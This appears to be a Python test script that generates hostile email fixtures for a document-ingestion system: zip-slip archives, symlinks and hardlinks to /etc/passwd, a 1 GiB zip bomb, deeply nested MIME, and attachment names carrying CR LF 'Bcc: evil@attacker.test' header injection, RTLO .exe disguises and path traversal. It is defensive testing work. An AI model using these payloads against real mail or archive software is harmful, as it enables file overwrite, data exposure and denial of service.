#!/usr/bin/python3
# SPDX-License-Identifier: ISC
"""Build the hostile-input mails of RELIABILITY.md (d) 13-36 at test time.

    make-hostile.py OUTDIR WORKDIR TOKEN

writes OUTDIR/NN-CASE.eml (one mail per case, from the known BOC unless
said otherwise) and OUTDIR/manifest.json: a list of {"case", "item",
"message_id", "file", "what"}.  Nothing big is kept in git: the 1 GiB zip
bomb is deflated from a stream of zeros here (about 1 MiB of zip).

WORKDIR is the test's scratch directory: the zip-slip and symlink entries
aim at WORKDIR/outside (which the test snapshots); TOKEN is a word unique
to the run that appears in every name an escaping entry would create, so
the test can look for it in the few places it could land.
"""

import base64
import io
import json
import os
import stat
import subprocess
import sys
import tarfile
import tempfile
import time
import zipfile

OUT, WORK, TOKEN = sys.argv[1], os.path.abspath(sys.argv[2]), sys.argv[3]
OUTSIDE = os.path.join(WORK, "outside")
BOC = "Anne de Vries <boc@bestuur-brg.nl>"
TO = "Partnerschap Hercertificering <partnerschap@hsmarnix.nl>"
CRLF = "\r\n"
manifest = []


def pdf(tag):
    """A small, distinct, well-formed enough PDF (SHA-256 differs per tag)."""
    body = ("%%PDF-1.4\n%% hostile test document %s %s\n"
            "1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n"
            "%%%%EOF\n" % (tag, TOKEN))
    return body.encode()


def b64(data):
    s = base64.b64encode(data).decode()
    return CRLF.join(s[i:i + 76] for i in range(0, len(s), 76))


def headers(case, subject=None, sender=BOC, extra=""):
    mid = "<hostile-%s-%s@lab.test>" % (case, TOKEN)
    h = ("From: %s\r\nTo: %s\r\nSubject: %s\r\n"
         "Date: Mon, 05 Dec 2022 08:%02d:00 +0100\r\nMessage-ID: %s\r\n"
         "MIME-Version: 1.0\r\n%s" % (
             sender, TO,
             subject or "Documenten hercertificering (hostile %s)" % case,
             len(manifest) % 60, mid, extra))
    return h, mid


def attachment_part(ctype, filename_params, data, enc="base64"):
    body = data if isinstance(data, str) else b64(data)	# str: as given
    return ("Content-Type: %s\r\nContent-Disposition: attachment;%s\r\n"
            "Content-Transfer-Encoding: %s\r\n\r\n%s\r\n" % (
                ctype, filename_params, enc, body))


def mixed(case, parts, subject=None, extra=""):
    """A multipart/mixed mail: a short text, then the given raw parts."""
    h, mid = headers(case, subject, extra=extra)
    b = "hostile-%s-boundary" % case
    text = ("Content-Type: text/plain; charset=utf-8\r\n\r\n"
            "Beste collega's,\r\n\r\nIn de bijlage de documenten.\r\n")
    out = [h, 'Content-Type: multipart/mixed; boundary="%s"\r\n\r\n' % b]
    for p in [text] + parts:
        out.append("--%s\r\n%s" % (b, p))
    out.append("--%s--\r\n" % b)
    return "".join(out), mid


def add(case, item, what, raw):
    path = os.path.join(OUT, "%02d-%s.eml" % (len(manifest) + 1, case))
    if isinstance(raw, str):
        raw = raw.encode("utf-8", "surrogateescape")
    with open(path, "wb") as f:
        f.write(raw)
    mid = raw.split(b"Message-ID: ", 1)[1].split(b"\r\n", 1)[0].decode()
    manifest.append({"case": case, "item": item, "what": what,
                     "message_id": mid, "file": os.path.basename(path),
                     "bytes": len(raw)})


def zip_bytes(entries):
    """entries: (ZipInfo or name, data); ZipInfo names are kept verbatim."""
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries:
            if isinstance(name, str):
                name = zipfile.ZipInfo(name, (2022, 12, 1, 9, 0, 0))
                name.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(name, data)
    return bio.getvalue()


def verbatim(name, mode=0o100644):
    zi = zipfile.ZipInfo("placeholder", (2022, 12, 1, 9, 0, 0))
    zi.filename = name		# ZipInfo() would rewrite some names
    zi.orig_filename = name
    zi.create_system = 3		# Unix, so external_attr holds st_mode
    zi.external_attr = mode << 16
    zi.compress_type = zipfile.ZIP_DEFLATED
    return zi


def zip_part(zname, data):
    return attachment_part('application/zip; name="%s"' % zname,
                           ' filename="%s"' % zname, data)


def main():
    os.makedirs(OUT, exist_ok=True)

    # --- (d) 29: zip slip --------------------------------------------------
    slip = [(verbatim("../slip-%s-1" % TOKEN), b"slip 1\n")]
    for depth in range(1, 9):	# ../outside/.. up to 8 levels up
        slip.append((verbatim("../" * depth + "outside/pwned-%s" % TOKEN),
                     b"pwned %d\n" % depth))
    slip += [
        (verbatim(OUTSIDE + "/abs-%s" % TOKEN), b"absolute\n"),
        (verbatim("/tmp/abs-%s" % TOKEN), b"absolute tmp\n"),
        (verbatim("..\\slip-%s-backslash" % TOKEN), b"backslash\n"),
        (verbatim("..\\..\\..\\outside\\pwned-bs-%s" % TOKEN), b"bs\n"),
        (verbatim("a/../../slip-%s-mid" % TOKEN), b"middle\n"),
        (verbatim("C:\\slip-%s-drive" % TOKEN), b"drive\n"),
        (verbatim("zelfevaluatie-slip.pdf"), pdf("slip-ok")),
    ]
    add("zip-slip", 29, "zip entries ../x, ../../../outside/pwned, /abs, "
        "..\\x, a/../../x, C:\\x next to one good PDF",
        mixed("zip-slip", [zip_part("documenten.zip", zip_bytes(slip))])[0])

    # --- (d) 30: symlink and hardlink entries ------------------------------
    links = [
        (verbatim("link-%s" % TOKEN, stat.S_IFLNK | 0o777),
         OUTSIDE.encode()),
        (verbatim("link-%s/pwned-link-%s" % (TOKEN, TOKEN)), b"through\n"),
        (verbatim("passwd-%s" % TOKEN, stat.S_IFLNK | 0o777),
         b"/etc/passwd"),
        (verbatim("zelfevaluatie-link.pdf"), pdf("link-ok")),
    ]
    tbio = io.BytesIO()
    with tarfile.open(fileobj=tbio, mode="w:gz") as t:
        for name, kind, target in (
                ("tlink-%s" % TOKEN, tarfile.SYMTYPE, OUTSIDE),
                ("thard-%s" % TOKEN, tarfile.LNKTYPE, "/etc/passwd"),
                ("thard2-%s" % TOKEN, tarfile.LNKTYPE,
                 "../../../outside/hard-%s" % TOKEN)):
            ti = tarfile.TarInfo(name)
            ti.type, ti.linkname, ti.mtime = kind, target, 1669885200
            t.addfile(ti)
        ti = tarfile.TarInfo("tlink-%s/pwned-tar-%s" % (TOKEN, TOKEN))
        ti.size, ti.mtime = 8, 1669885200
        t.addfile(ti, io.BytesIO(b"through\n"))
        data = pdf("tar-ok")
        ti = tarfile.TarInfo("verslag-tar.pdf")
        ti.size, ti.mtime = len(data), 1669885200
        t.addfile(ti, io.BytesIO(data))
    add("symlink", 30, "zip with symlinks to WORK/outside and /etc/passwd "
        "and a file written through one; tar.gz with symlink and hardlinks",
        mixed("symlink", [
            zip_part("links.zip", zip_bytes(links)),
            attachment_part('application/gzip; name="links.tar.gz"',
                            ' filename="links.tar.gz"', tbio.getvalue())])[0])

    # --- (d) 31: 1 MiB zip -> 1 GiB ------------------------------------------
    t0 = time.monotonic()
    bio = io.BytesIO()
    zero = bytes(1 << 20)
    with zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED,
                         compresslevel=9) as z:
        zi = zipfile.ZipInfo("nullen.pdf", (2022, 12, 1, 9, 0, 0))
        zi.compress_type = zipfile.ZIP_DEFLATED
        with z.open(zi, "w", force_zip64=True) as w:
            for _ in range(1024):
                w.write(zero)
    bomb = bio.getvalue()
    sys.stderr.write("make-hostile: 1 GiB bomb deflated to %d bytes in "
                     "%.1f s\n" % (len(bomb), time.monotonic() - t0))
    add("zip-bomb", 31, "%d-byte zip holding 1 GiB of zeros" % len(bomb),
        mixed("zip-bomb", [zip_part("bom.zip", bomb)])[0])

    # --- (d) 31: 42.zip-style nesting, 3 levels of zip ---------------------
    def level(n, tag):
        if n == 0:
            return [("inhoud-%s.pdf" % tag, pdf("nest-" + tag) +
                     bytes(4 << 20))]	# 4 MiB of zeros each, 8 of them
        return [("l%d-%s%d.zip" % (n, tag, i),
                 zip_bytes(level(n - 1, "%s%d" % (tag, i))))
                for i in range(2)]
    add("zip-nested", 31, "42.zip-style: zip in zip in zip, 2 wide, "
        "8 x 4 MiB at the bottom",
        mixed("zip-nested", [zip_part("42.zip", zip_bytes(level(3, "n")))])[0])

    # --- (d) 32: encrypted zip (zip -P) -------------------------------------
    with tempfile.TemporaryDirectory() as d:
        with open(os.path.join(d, "geheim.pdf"), "wb") as f:
            f.write(pdf("encrypted"))
        subprocess.run(["zip", "-q", "-P", "wachtwoord", "geheim.zip",
                        "geheim.pdf"], cwd=d, check=True)
        with open(os.path.join(d, "geheim.zip"), "rb") as f:
            enc = f.read()
    add("zip-encrypted", 32, "zip -P: one encrypted PDF",
        mixed("zip-encrypted", [zip_part("geheim.zip", enc)])[0])

    # --- (d) 13: message/rfc822 nested 40 000 deep ----------------------------
    h, _ = headers("rfc822-40000")
    inner = "Content-Type: text/plain\r\n\r\nbottom\r\n"
    deep = "Content-Type: message/rfc822\r\n\r\n" * 40000 + inner
    add("rfc822-40000", 13, "message/rfc822 nested 40 000 deep",
        h + "Content-Type: multipart/mixed; boundary=top\r\n\r\n--top\r\n"
        "Content-Type: text/plain\r\n\r\nzie bijlage\r\n--top\r\n"
        "Content-Disposition: attachment\r\n" + deep + "--top--\r\n")

    # --- (d) 14: multipart nested 20 000 deep ---------------------------------
    h, _ = headers("multipart-20000")
    n = 20000
    opens = "".join("Content-Type: multipart/mixed; boundary=b%d\r\n\r\n"
                    "--b%d\r\n" % (i, i) for i in range(n))
    closes = "".join("\r\n--b%d--\r\n" % i for i in reversed(range(n)))
    add("multipart-20000", 14, "multipart/mixed nested 20 000 deep",
        h + opens + "Content-Type: text/plain\r\n\r\nbottom" + closes)

    # --- (d) 15: 100 000 sibling parts ----------------------------------------
    h, _ = headers("parts-100000")
    parts = "".join("--p\r\nContent-Type: text/plain\r\n\r\n%d\r\n" % i
                    for i in range(100000))
    add("parts-100000", 15, "100 000 sibling text/plain parts",
        h + "Content-Type: multipart/mixed; boundary=p\r\n\r\n" +
        parts + "--p--\r\n")

    # --- (d) 20: one 6 MB header line ---------------------------------------
    raw, _ = mixed("header-6mb", [attachment_part(
        'application/pdf; name="zelfevaluatie-header.pdf"',
        ' filename="zelfevaluatie-header.pdf"', pdf("header"))],
        extra="X-Hostile: " + "A" * (6 * 1000 * 1000) + "\r\n")
    add("header-6mb", 20, "one 6 MB header line (X-Hostile) plus a PDF", raw)

    # --- (d) 18/36: invalid base64 in an attachment ----------------------------
    good = b64(pdf("base64"))
    bad = good[:40] + "!!@@##$$%%" + good[40:] + "\r\n=A=\r\nQQ"  # odd length
    add("base64-invalid", 18, "PDF attachment with non-alphabet bytes, "
        "a stray = and an odd length in its base64",
        mixed("base64-invalid", [attachment_part(
            'application/pdf; name="rapport-base64.pdf"',
            ' filename="rapport-base64.pdf"', bad)])[0])

    # --- (d) 16: QP body ending in =A --------------------------------------
    h, _ = headers("qp-end")
    add("qp-end", 16, "single-part quoted-printable body ending in '=A' "
        "at end of file (libetpan 1.9.4 over-read)",
        h + "Content-Type: text/plain; charset=utf-8\r\n"
        "Content-Transfer-Encoding: quoted-printable\r\n\r\n"
        "Beste collega's, zie hieronder=3D=A")

    # --- (d) 21/33/34: hostile attachment names ----------------------------
    def named(case, item, what, params):
        add(case, item, what, mixed(case, [attachment_part(
            "application/pdf", params, pdf(case))])[0])

    crlf = "rapport\r\nBcc: evil@attacker.test\r\n.pdf"
    named("name-crlf", 34, "filename decoding (RFC 2047 B) to CR LF + Bcc:",
          ' filename="=?UTF-8?B?%s?="' % base64.b64encode(
              crlf.encode()).decode())
    named("name-nul", 33, "filename with NUL (=00 in a Q word)",
          ' filename="=?UTF-8?Q?rapport=00evil.pdf?="')
    named("name-slash", 33, "filename ../../etc/passwd",
          ' filename="../../etc/passwd"')
    named("name-rtlo", 33, "filename annual<U+202E>fdp.exe (RFC 2231)",
          " filename*=UTF-8''annual%E2%80%AEfdp.exe")
    named("name-con", 33, "filename CON", ' filename="CON"')
    named("name-contxt", 33, "filename con.txt", ' filename="con.txt"')
    named("name-ctl", 33, "filename with TAB, ESC and DEL (RFC 2047 Q)",
          ' filename="=?UTF-8?Q?a=09b=1B[31mc=7Fd.pdf?="')

    # The same names on files that do reach a school, so that they appear
    # in the receipt to the BOC (an outgoing mail) and in the school tree.
    def rfc2047(text):
        return "=?UTF-8?B?%s?=" % base64.b64encode(text.encode()).decode()
    add("name-school", 34, "school-linked names: RTLO, CR LF + Bcc:, "
        "../ and a reserved name; listed in the receipt", mixed(
            "name-school", [attachment_part("application/pdf", params,
                                            pdf("school-%d" % i))
                            for i, params in enumerate((
                ' filename="%s"' % rfc2047(
                    "Schooldocument OBS De Regenboog \u202efdp.exe"),
                ' filename="%s"' % rfc2047(
                    "Teamverslag OBS De Regenboog\r\nBcc: "
                    "evil@attacker.test\r\n.pdf"),
                ' filename="../../Preadvies OBS De Regenboog.pdf"',
                ' filename="%s"' % rfc2047(
                    "Schooldocument OBS De Regenboog/AUX.pdf")))])[0])

    # More names of (d) 33: 4 096 bytes, more reserved forms, dots, empty.
    tricky = ["x" * 4092 + ".pdf", "NUL.tar.gz", "lpt1", "CONIN$",
              "aux .pdf", "con\u200b.txt", "COM\u00b9.pdf", "..", ".", " ",
              "", "\u202e"]
    add("name-tricky", 33, "names: 4 096 bytes, NUL.tar.gz, lpt1, CONIN$, "
        "'aux .pdf', con<ZWSP>.txt, COM<sup1>.pdf, '..', '.', ' ', '', "
        "a lone RTLO", mixed("name-tricky", [attachment_part(
            "application/pdf", ' filename="%s"' % rfc2047(n) if n else
            ' filename=""', pdf("tricky-%d" % i))
            for i, n in enumerate(tricky)])[0])

    # (d) 33: 10k entries with one name, one past the entry cap.
    dupes = [("verslag.pdf", b"copy %d\n" % i) for i in range(10001)]
    add("zip-dupes", 33, "zip with 10 001 entries all named verslag.pdf "
        "(distinct contents)",
        mixed("zip-dupes", [zip_part("kopieen.zip", zip_bytes(dupes))])[0])

    with open(os.path.join(OUT, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1)


main()
